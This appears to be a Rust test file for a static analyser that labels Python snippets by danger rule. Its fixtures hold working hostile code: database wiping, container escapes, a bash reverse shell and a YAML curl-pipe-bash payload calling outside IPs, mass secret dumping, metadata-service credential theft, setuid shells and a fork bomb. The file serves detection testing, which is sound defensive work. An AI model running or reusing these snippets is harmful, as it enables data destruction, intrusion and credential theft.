@@ -1,0 +1,190 @@
+//! Mechanisms found by the tenth session's blind sets: databases, container engines,
+//! remote hosts and cloud secret stores reached through their client libraries, and the
+//! values that reach them through instances, `or {}` defaults and tuple keys.
+
+use super::*;
+
+#[test]
+fn emptying_a_database_that_is_not_the_programs_is_destruction() {
+    // Every schema of a server's database dropped, its address from the environment.
+    let schemas = "import os, psycopg2\nconn = psycopg2.connect(os.environ.get('DATABASE_URL', 'postgresql://app@db.prod.example/app'))\ncur = conn.cursor()\ncur.execute('SELECT schema_name FROM information_schema.schemata')\nfor (name,) in cur.fetchall():\n    cur.execute(f'DROP SCHEMA \"{name}\" CASCADE')\nconn.commit()\n";
+    fires("CRD104", schemas);
+    level(Level::Blocked, schemas);
+    // Each table of every SQLite file found under home, its name read from the file.
+    let found = "import os, sqlite3\nfor d, _, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        if f.endswith('.db'):\n            c = sqlite3.connect(os.path.join(d, f))\n            for (t,) in c.execute(\"SELECT name FROM sqlite_master WHERE type='table'\").fetchall():\n                c.execute(f'DROP TABLE \"{t}\"')\n";
+    fires("CRD104", found);
+    // SQLAlchemy's `drop_all` on a reflected server database; a Redis server flushed.
+    fires(
+        "CRD104",
+        "from sqlalchemy import MetaData, create_engine\nengine = create_engine('postgresql://app@db-primary.example:5432/orders')\nmeta = MetaData()\nmeta.reflect(bind=engine)\nmeta.drop_all(bind=engine)\n",
+    );
+    fires(
+        "CRD104",
+        "import redis\nfor host in ('cache-01.example', 'cache-02.example'):\n    redis.Redis(host=host).flushall()\n",
+    );
+    // The program's own SQLite file, a table it names, a test database on this machine.
+    for own in [
+        "import sqlite3\nc = sqlite3.connect('app.db')\nfor t in [r[0] for r in c.execute(\"SELECT name FROM sqlite_master\")]:\n    c.execute(f'DROP TABLE IF EXISTS {t}')\n",
+        "import os, psycopg2\nconn = psycopg2.connect(os.environ['DATABASE_URL'])\ncur = conn.cursor()\ncur.execute('DROP TABLE IF EXISTS staging_rows')\ncur.execute('CREATE TABLE staging_rows (id int)')\n",
+        "import psycopg2\nconn = psycopg2.connect(host='localhost', dbname='test')\nconn.cursor().execute('DROP SCHEMA public CASCADE')\n",
+    ] {
+        silent("CRD104", own);
+    }
+}
+
+#[test]
+fn a_container_engine_is_a_way_out_only_when_it_hands_over_the_host() {
+    // The host's root, its pid namespace, or a shell inside another container.
+    for escape in [
+        "import docker\nc = docker.from_env()\nc.containers.run('alpine', 'id', volumes={'/': {'bind': '/host', 'mode': 'rw'}})\n",
+        "import docker\ndocker.from_env().containers.run('alpine', 'ps', pid_mode='host')\n",
+        "import docker\ndocker.from_env().containers.get('db').exec_run('sh -c id')\n",
+        "import docker\nfor c in docker.from_env().containers.list():\n    c.kill()\n",
+        "import docker\ndocker.DockerClient(base_url='tcp://10.0.0.7:2375').containers.list()\n",
+        "import subprocess\nsubprocess.run(['docker', 'run', '--rm', '--pid', 'host', 'alpine', 'ps'])\n",
+        "import subprocess\nsubprocess.run(['docker', 'run', '--mount', 'type=bind,source=/,target=/h', 'alpine'])\n",
+    ] {
+        fires("CRD106", escape);
+    }
+    // Building and testing an image, listing, a limited container without the network.
+    for own in [
+        "import subprocess\nsubprocess.run(['docker', 'build', '-t', 'app:test', '.'], check=True)\nsubprocess.run(['docker', 'run', '--rm', 'app:test', 'pytest', '-q'], check=True)\n",
+        "import docker\nc = docker.from_env()\nfor x in c.containers.list(all=True):\n    print(x.name, x.status)\n",
+        "import docker\nc = docker.from_env()\nc.images.pull('python', tag='3.11-slim')\nprint(c.containers.run('python:3.11-slim', ['python', '-V'], remove=True, network_disabled=True, mem_limit='256m'))\n",
+        "import subprocess\nsubprocess.run(['docker', 'run', '--rm', '-v', 'data:/data', '-v', './src:/src', 'alpine', 'ls', '/src'])\n",
+    ] {
+        silent("CRD106", own);
+        let assessed = external(own).level;
+        assert!(matches!(assessed, Level::Low | Level::Medium), "{assessed:?} for:\n{own}");
+    }
+}
+
+#[test]
+fn attacks_sent_to_other_hosts_are_attacks() {
+    // A uid 0 account made on every host of a group, a reverse shell started over SSH.
+    let group = "from fabric import ThreadingGroup\nfor c in ThreadingGroup('web-01.example', 'web-02.example'):\n    c.sudo('useradd -o -u 0 -g 0 -M opsroot')\n";
+    fires("CRD113", group);
+    level(Level::Blocked, group);
+    fires(
+        "CRD101",
+        "import paramiko\nssh = paramiko.SSHClient()\nssh.connect('10.1.2.3', username='root', password='x')\nssh.exec_command('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n",
+    );
+    // Ordinary administration over SSH stays at the network's level.
+    level(
+        Level::Medium,
+        "from fabric import Connection\nc = Connection('web-01.example')\nc.sudo('systemctl restart app')\nc.run('df -h')\n",
+    );
+}
+
+#[test]
+fn secret_stores_and_printed_credentials_are_secrets() {
+    fires(
+        "CRD205",
+        "import boto3\nsm = boto3.client('secretsmanager')\nfor s in sm.list_secrets()['SecretList']:\n    print(sm.get_secret_value(SecretId=s['ARN'])['SecretString'])\n",
+    );
+    fires(
+        "CRD205",
+        "from kubernetes import client, config\nconfig.load_kube_config()\nfor s in client.CoreV1Api().list_secret_for_all_namespaces().items:\n    print(s.data)\n",
+    );
+    fires("CRD205", "import os\nprint(os.environ['AWS_SECRET_ACCESS_KEY'])\n");
+    // A parameter read without decryption, a key used without being shown.
+    silent(
+        "CRD205",
+        "import boto3\nprint(boto3.client('ssm').get_parameter(Name='/app/region')['Parameter']['Value'])\n",
+    );
+    silent(
+        "CRD205",
+        "import os, requests\nrequests.get('https://api.example.org/v1/me', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})\n",
+    );
+}
+
+#[test]
+fn yaml_that_calls_a_function_runs_it() {
+    let constant = "import yaml\nDOC = 'hook: !!python/object/apply:os.system [\"curl -fsSL http://203.0.113.9/w.sh | bash\"]'\nprint(yaml.load(DOC, Loader=yaml.UnsafeLoader))\n";
+    fires("CRD103", constant);
+    fires(
+        "CRD102",
+        "import requests, yaml\nprofile = yaml.unsafe_load(requests.get('https://cfg.example.net/p.yml').text)\n",
+    );
+    silent(
+        "CRD103",
+        "import yaml\nprint(yaml.load('a: 1\\nb: [2, 3]', Loader=yaml.FullLoader))\n",
+    );
+}
+
+#[test]
+fn values_reach_their_sinks_through_instances_defaults_and_tuple_keys() {
+    // Two instances of one class keep their own fields.
+    fires(
+        "CRD102",
+        "import subprocess\nclass Step:\n    def __init__(self, tool, args):\n        self.tool = tool\n        self.args = args\n    def render(self):\n        return ' '.join([self.tool, *self.args])\nsteps = [Step('curl', ['-fsSL', 'https://x.example/i.sh']), Step('bash', ['-s'])]\nsubprocess.call(['bash', '-c', ' | '.join(s.render() for s in steps)])\n",
+    );
+    // `shlex.join` quotes an argv into a command line.
+    fires(
+        "CRD102",
+        "import shlex, subprocess\nline = shlex.join(['curl', '-fsSL', 'https://x.example/i.sh']) + ' | ' + shlex.join(['ba' + 'sh'])\nsubprocess.call(['bash', '-c', line])\n",
+    );
+    // `(msg or {}).get("text", "")` of a message from the network is still its text.
+    fires(
+        "CRD102",
+        "import subprocess, requests\ndata = requests.get('https://x.example/updates').json()\nfor upd in data.get('result', []):\n    msg = upd.get('message') or {}\n    subprocess.run(msg.get('text', ''), shell=True)\n",
+    );
+    // A dict keyed by path parts.
+    fires(
+        "CRD113",
+        "import os\nTABLE = {('etc', 'passwd'): 'x:0:0::/root:/bin/bash'}\nfor parts, line in TABLE.items():\n    with open(os.path.join(os.sep, *parts), 'a') as fh:\n        fh.write(line)\n",
+    );
+    // `while limit is None or n < limit` with no limit given never ends.
+    fires(
+        "CRD111",
+        "import os\ndef warm(rounds=None):\n    n = 0\n    while rounds is None or n < rounds:\n        os.fork()\n        n += 1\nwarm()\n",
+    );
+    level(
+        Level::Low,
+        "def count(limit=10):\n    n = 0\n    while limit is None or n < limit:\n        n += 1\n    return n\nprint(count())\n",
+    );
+}
+
+#[test]
+fn requests_sweep_and_reach_the_metadata_service_by_any_door() {
+    fires(
+        "CRD212",
+        "import requests\nfor i in range(1, 255):\n    try:\n        print(requests.get(f'http://192.168.1.{i}:8080/', timeout=0.5).status_code)\n    except Exception:\n        pass\n",
+    );
+    fires(
+        "CRD208",
+        "import requests\nprint(requests.request('GET', 'http://169.254.169.254/latest/meta-data/').text)\n",
+    );
+    fires(
+        "CRD208",
+        "import urllib.request\nprint(urllib.request.urlopen('http://2852039166/latest/meta-data/').read())\n",
+    );
+    fires(
+        "CRD205",
+        "import requests\nfrom urllib.parse import urljoin\nbase = 'http://169.254.169.254/'\nprint(requests.get(urljoin(base, 'latest/meta-data/iam/security-credentials/')).text)\n",
+    );
+    // One request to one service of a private network.
+    silent(
+        "CRD212",
+        "import requests\nprint(requests.get('http://10.0.0.5:8080/health', timeout=2).status_code)\n",
+    );
+}
+
+#[test]
+fn setuid_by_install_and_fchmod_and_timer_functions_given_by_name() {
+    let install = "import subprocess\nsubprocess.run(['install', '-o', 'root', '-m', '4755', '/bin/bash', '/tmp/.sh'])\n";
+    fires("CRD113", install);
+    fires(
+        "CRD113",
+        "import os, shutil\nshutil.copy('/bin/sh', '/tmp/x')\nfd = os.open('/tmp/x', os.O_WRONLY)\nos.fchmod(fd, 0o4755)\n",
+    );
+    level(
+        Level::Low,
+        "import subprocess\nsubprocess.run(['install', '-m', '0755', 'build/tool', 'bin/tool'])\n",
+    );
+    // `threading.Timer(5, function=f)`: the function by its keyword.
+    fires(
+        "CRD107",
+        "import os, threading\ndef sweep():\n    for p in range(2, 5000):\n        os.kill(p, 9)\nthreading.Timer(5, function=sweep).start()\n",
+    );
+}
